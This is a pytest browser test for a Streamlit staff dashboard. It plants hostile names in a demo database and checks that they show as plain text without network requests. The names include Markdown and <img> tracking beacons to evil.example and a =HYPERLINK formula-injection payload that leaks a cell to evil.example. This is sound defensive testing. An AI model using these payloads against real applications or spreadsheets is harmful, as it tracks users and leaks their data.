"""In a real browser: no table toolbar export, and hostile names shown as the characters they are.

The demo database (built through the real loaders) is changed in place so one person is called
`![t](https://evil.example/track.png) Orla`, another `=HYPERLINK(...)`, their team holds an <img> tag and every
criterion starts with a Markdown image. Headless Chromium then opens the pages that show them; any request
to evil.example is recorded (and refused), and must never happen.
"""

from __future__ import annotations

import re
import shutil
import urllib.parse

import pytest
from test_browser import assert_no_errors, screenshot, settle, streamlit_server

from loaders.database import writing

pytestmark = pytest.mark.browser

HOSTILE_NAME = "![t](https://evil.example/track.png) Orla"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
HOSTILE_TEAM_PREFIX = "<img src=https://evil.example/team.png> "
HOSTILE_CRITERION_PREFIX = "![c](https://evil.example/criterion.png) "


@pytest.fixture(scope="module")
def hostile(demo_db, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "hostile.duckdb"
    shutil.copyfile(demo_db, db)
    with writing(db) as con:  # changed in place, not loaded: it stays the flagged demo, served without sign-in
        staff_id, team = con.execute("select staff_id, team from readiness where target_level is not null "
                                     "and requirements_total > 0 order by staff_id limit 1").fetchone()
        other = con.execute("select staff_id from readiness where team = ? and staff_id <> ? order by staff_id limit 1",
                            [team, staff_id]).fetchone()[0]
        con.execute("update staff set name = ? where staff_id = ?", [HOSTILE_NAME, staff_id])
        con.execute("update staff set name = ? where staff_id = ?", [FORMULA_NAME, other])
        con.execute("update staff set team = ? where team = ?", [HOSTILE_TEAM_PREFIX + team, team])
        con.execute("update criteria set criterion = ? || criterion", [HOSTILE_CRITERION_PREFIX])
    with streamlit_server(db, folder / "streamlit.log") as url:
        yield {"url": url, "staff_id": staff_id, "team": HOSTILE_TEAM_PREFIX + team}


@pytest.fixture
def beacons(page):
    """Every request the page makes to evil.example (each one refused)."""
    seen: list[str] = []

    def refuse(route) -> None:
        seen.append(route.request.url)
        route.abort()

    def is_evil(url: str) -> bool:
        return (urllib.parse.urlparse(url).hostname or "").endswith("evil.example")

    page.route(is_evil, refuse)
    page.on("request", lambda request: seen.append(request.url) if is_evil(request.url) else None)
    return seen


def assert_nothing_live(page) -> None:
    # No image, and not even a link to the address: it stays characters. (Our own links to the People page
    # may carry the hostile team in their query string, percent-encoded: those lead to this app, not there.)
    assert page.locator("img[src*='evil.example']").count() == 0
    hosts = page.evaluate("Array.from(document.querySelectorAll('a[href]'), link => link.hostname)")
    assert [host for host in hosts if host.endswith("evil.example")] == []


def shown(text: str) -> str:
    # dashboard/text.py puts an invisible word joiner after "://" and "@" so addresses are not made links.
    return text.replace("\u2060", "").strip()


def heading(page, starts: str):
    return page.get_by_role("heading", name=re.compile("^" + re.escape(starts)))


def test_a_hostile_name_is_shown_as_text_and_fetches_nothing(page, hostile, beacons):
    page.goto(f"{hostile['url']}/person?staff_id={hostile['staff_id']}")
    name = heading(page, "![t](https:")
    name.wait_for(timeout=120_000)
    settle(page, 1)
    assert_no_errors(page)
    assert shown(name.inner_text()) == HOSTILE_NAME
    main = shown(page.locator("[data-testid='stMain']").inner_text())
    assert HOSTILE_TEAM_PREFIX.strip() in main  # the team in the caption, as characters
    assert HOSTILE_CRITERION_PREFIX.strip() in main  # framework wording in the requirements table
    assert_nothing_live(page)
    screenshot(page, "hostile-name-person")
    page.goto(f"{hostile['url']}/team?team={hostile['team']}")
    heading(page, "Team: <img src=https:").wait_for(timeout=60_000)
    settle(page, 1)
    assert_no_errors(page)
    assert_nothing_live(page)
    screenshot(page, "hostile-name-team")
    page.goto(f"{hostile['url']}/framework")
    page.get_by_role("heading", name="Career framework").wait_for(timeout=60_000)
    settle(page)
    assert HOSTILE_CRITERION_PREFIX.strip() in shown(page.locator("[data-testid='stMain']").inner_text())
    assert_nothing_live(page)
    page.wait_for_timeout(1000)  # any late image request would have gone by now
    assert beacons == []


def test_the_dataframe_toolbar_offers_no_download(page, hostile):
    page.goto(f"{hostile['url']}/team?team={hostile['team']}")
    heading(page, "Team: <img src=https:").wait_for(timeout=120_000)
    settle(page, 1)
    frame = page.locator("[data-testid='stDataFrame']").first
    frame.hover()
    toolbar = page.locator("[data-testid='stElementToolbar']").first
    toolbar.wait_for(state="visible", timeout=10_000)
    buttons = [button.get_attribute("aria-label") or button.inner_text()
               for button in toolbar.locator("button").all()]
    assert buttons, "the toolbar itself is shown (search, full screen)"
    assert not [label for label in buttons if "download" in label.lower() or "csv" in label.lower()], buttons
    screenshot(page, "dataframe-toolbar")
    # The product's own download is still there, and it escapes formulas (tests/test_fail_closed.py reads it).
    assert page.get_by_role("button", name="Download CSV").count() >= 1
